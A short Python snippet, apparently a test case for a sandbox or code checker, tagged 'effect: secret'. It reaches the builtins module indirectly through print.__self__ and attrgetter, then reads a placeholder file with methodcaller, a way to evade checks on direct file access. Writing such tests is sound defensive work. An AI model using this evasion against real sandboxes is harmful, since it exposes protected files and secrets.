# Attributes by a path in a string.
# effect: secret
from operator import attrgetter, methodcaller
print(methodcaller("open", "@FILE@")(attrgetter("__self__")(print)).read())
